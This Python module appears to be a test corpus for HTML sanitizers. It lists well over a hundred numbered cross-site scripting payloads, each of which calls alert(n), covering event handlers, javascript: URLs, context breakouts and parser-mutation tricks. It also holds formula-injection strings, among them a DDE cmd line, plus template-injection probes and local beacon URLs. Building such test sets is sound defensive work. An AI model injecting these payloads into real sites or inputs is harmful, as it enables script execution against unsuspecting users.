"""Text made to run in a browser: written for these gates, to the kinds that are known to run in pages of others.

Each calls ``alert`` with its own number, so that a page can be asked which of them ran. Kinds: elements that run by themselves or
when they fail to load; handlers of elements that take the focus or move; addresses that are scripts; ways out of an attribute, of a
comment, of raw text such as a title, and of a script's string; markup that a parser mends into something else; styles and beacons.
"""

from __future__ import annotations

RUN = "alert(NUMBER)"

BY_THEMSELVES = (
    "<script>{}</script>",
    "<SCRIPT>{}</SCRIPT>",
    "<script\n>{}</script\n>",
    "<script/x>{}</script>",
    '<script type="module">{}</script>',
    "<script>/*\n*/{}//</script>",
    '<script src="data:text/javascript,{}"></script>',
    "<svg><script>{}</script></svg>",
    "<svg onload={}>",
    "<svg/onload={}>",
    '<svg onload="{}"/>',
    "<svg><g onload={}></g></svg>",
    "<body onload={}>",
    '<iframe srcdoc="<script>parent.{}</script>"></iframe>',
    '<iframe src="javascript:parent.{}"></iframe>',
    "<iframe onload={}></iframe>",
    '<object data="data:text/html,<script>{}</script>"></object>',
    "<embed src=javascript:{}>",
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    "<style onload={}></style>",
    "<link rel=stylesheet href=data:text/css, onload={}>",
    "<details open ontoggle={}>x</details>",
)

WHEN_THEY_FAIL = (
    "<img src=x onerror={}>",
    "<IMG SRC=x ONERROR={}>",
    "<img src onerror={}>",
    '<img src="x" onerror="{}">',
    "<img src='x' onerror='{}'>",
    "<img/src=x/onerror={}>",
    "<img\tsrc=x\tonerror={}>",
    "<img\nsrc=x\nonerror={}>",
    "<img src=x onerror=&#97;lert(NUMBER)>",
    "<img src=x onerror=&#x61;lert&lpar;NUMBER&rpar;>",
    "<img src=data:, onerror={}>",
    "<img srcset=x onerror={}>",
    "<image src=x onerror={}>",
    "<video src=x onerror={}></video>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}></audio>",
    "<picture><source srcset=x><img onerror={} src=x></picture>",
    "<input type=image src=x onerror={}>",
    "<object data=x onerror={}></object>",
    "<script src=x: onerror={}></script>",
    "<link rel=stylesheet href=x: onerror={}>",
    "<svg><image href=x onerror={}></image></svg>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<table background=x><td><img src=x onerror={}></table>",
    "<template shadowrootmode=open><img src=x onerror={}></template><img src=x onerror={}>",
)

WITH_FOCUS = (
    "<input autofocus onfocus={}>",
    "<textarea autofocus onfocus={}></textarea>",
    "<select autofocus onfocus={}></select>",
    "<button autofocus onfocus={}>x</button>",
    "<a href=# autofocus onfocus={}>x</a>",
    "<div tabindex=0 autofocus onfocus={}>x</div>",
    "<details open ontoggle={} autofocus><summary>x</summary></details>",
    "<marquee onstart={}>x</marquee>",
    "<marquee loop=1 onfinish={}>x</marquee>",
    "<style>@keyframes k{{}}</style><b style='animation:k 1s' onanimationstart={}>x</b>",
    "<b style='transition:color 1s;color:red' ontransitionend={}>x</b>",
    "<div onmouseover={} onclick={} onpointerenter={}>over me</div>",
    '<a href="javascript:{}">x</a>',
    '<a href="JaVaScRiPt:{}">x</a>',
    '<a href="java&#9;script:{}">x</a>',
    "<a href='data:text/html,<script>{}</script>'>x</a>",
    "<form action=javascript:{}><button>x</button></form>",
    "<button formaction=javascript:{}>x</button>",
    "<svg><a xlink:href=javascript:{}><text y=20>x</text></a></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s></svg>",
    "<svg><set onbegin={} attributeName=x to=1></svg>",
    "<math href=javascript:{}>x</math>",
    "<dialog open onclose={}><form method=dialog></form></dialog>",
)

WAYS_OUT = (
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    "><img src=x onerror={}>",
    '" onmouseover={} x="',
    "' onmouseover={} x='",
    '" autofocus onfocus={} x="',
    "` onerror={} `",
    "--><img src=x onerror={}><!--",
    "--!><img src=x onerror={}>",
    "]]><img src=x onerror={}>",
    "</title><script>{}</script>",
    "</title><img src=x onerror={}>",
    "</textarea><img src=x onerror={}>",
    "</style><script>{}</script>",
    "</noscript><img src=x onerror={}>",
    "</select><img src=x onerror={}>",
    "</svg><img src=x onerror={}>",
    "</text><script>{}</script><text>",
    "</desc><script>{}</script><desc>",
    "</td></tr></table><img src=x onerror={}>",
    "</option><img src=x onerror={}>",
    "?><script>{}</script>",
    "</iframe><img src=x onerror={}>",
    "</xmp><img src=x onerror={}>",
)

OF_STRINGS = (
    "</script><script>{}</script>",
    "</script ><script>{}</script>",
    "</SCRIPT><script>{}</script>",
    '";{}//',
    '"-{}-"',
    '"+{}+"',
    '\\";{}//',
    '\\\\";{}//',
    "';{}//",
    "'-{}-'",
    "`;{}//",
    "${{{}}}",
    "\n{}//",
    "\u2028{}//",
    "\u2029{}//",
    '<!--<script>";{}//',
    '"}});{}//',
    '"]);{}//',
    "*/{}/*",
    "*/{}//",
)

MENDED = (
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<svg><style><img src=x onerror={}></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    '<svg></p><style><a id="</style><img src=x onerror={}>">',
    "<<script>{}//<</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<img src=x:x onerror\n=\n{}>",
    "<a\u0000><img src=x onerror={}>",
    "<img src=x onerror={}//",
    "<svg><desc><img src=x onerror={}></desc></svg>",
    "<svg><title><img src=x onerror={}></title></svg>",
    "\ufeff<img src=x onerror={}>",
    "\u202e<img src=x onerror={}>",
    "&lt;img src=x onerror={}&gt;<img src=x onerror={}>",
    "%3Cimg src=x onerror={}%3E<img src=x onerror={}>",
    "<plaintext><img src=x onerror={}>"[11:],
    "<x onclick={} tabindex=1 id=x></x><img src=x onerror={}>",
    "href <img src=x onerror={}>",
    "<b>href</b><img src=x onerror={}>",
)

HARMLESS_HERE = (
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "network",
    "document",
    "{{7*7}}",
    "${7*7}",
    "<%= 7 %>",
    "javascript:alert(NUMBER)",
    "url(http://127.0.0.1:9/x)",
    "red;background:url(http://127.0.0.1:9/y)",
    "<link rel=stylesheet href=http://127.0.0.1:9/z>",
    "<img src=http://127.0.0.1:9/beacon>",
    "@import 'http://127.0.0.1:9/i';",
    '=HYPERLINK("http://127.0.0.1:9/h","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
)
"""Run nowhere by themselves: they would reach out, or confuse a program. They stand in every context too."""


def _all() -> tuple[str, ...]:
    found = (*BY_THEMSELVES, *WHEN_THEY_FAIL, *WITH_FOCUS, *WAYS_OUT, *OF_STRINGS, *MENDED)
    return tuple(
        one.replace("{{", "\x01").replace("}}", "\x02").replace("{}", RUN).replace("\x01", "{").replace("\x02", "}") for one in found
    )


PAYLOADS: tuple[str, ...] = tuple(text.replace("NUMBER", str(number)) for number, text in enumerate(_all()))
"""Payload ``n`` calls ``alert(n)``."""

_FIRST = len(PAYLOADS) - len(MENDED) - len(OF_STRINGS)
STRING_NUMBERS = range(_FIRST, _FIRST + len(OF_STRINGS))
"""The payloads that are to break out of a script's string."""
